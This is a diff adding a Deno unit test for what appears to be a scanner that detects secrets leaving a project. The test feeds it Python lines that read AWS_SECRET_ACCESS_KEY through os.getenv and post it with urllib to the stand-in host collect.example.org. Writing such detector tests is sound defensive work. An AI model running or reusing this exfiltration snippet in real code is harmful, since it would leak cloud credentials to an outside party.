@@ -1678,6 +1678,19 @@ Deno.test("PowerShell: a download run and a secret sent by way of variables are 
   assert.deepEqual(persists("Add-Content -Path ./notes.txt -Value hi\n"), []);
 });
 
+Deno.test("an environment getter handed as a value reads the variables the call names", () => {
+  const send = 'urllib.request.urlopen("https://collect.example.org", data=str(vals).encode())\n';
+  const sent = (line: string) =>
+    secretFlows("scripts/g.py", `import os, urllib.request\n${line}\n${send}`);
+  const one = sent('vals = list(map(os.getenv, ["AWS_SECRET_ACCESS_KEY"]))');
+  assert.equal(one.length, 1);
+  assert.equal(one[0]![0], "critical");
+  assert.match(one[0]![1]!, /\$AWS_SECRET_ACCESS_KEY → collect\.example/);
+  assert.equal(sent("vals = list(map(os.environ.get, names))")[0]?.[0], "critical");
+  // Names that are no secret: nothing sent that matters.
+  assert.deepEqual(sent('vals = list(map(os.getenv, ["HOME", "LANG"]))'), []);
+});
+
 Deno.test("shell: what printenv NAME and declare -p print is the variables they name or all of them", () => {
   const critical = (text: string) => secretSeverities("scripts/s.sh", `#!/bin/bash\n${text}`);
   assert.deepEqual(
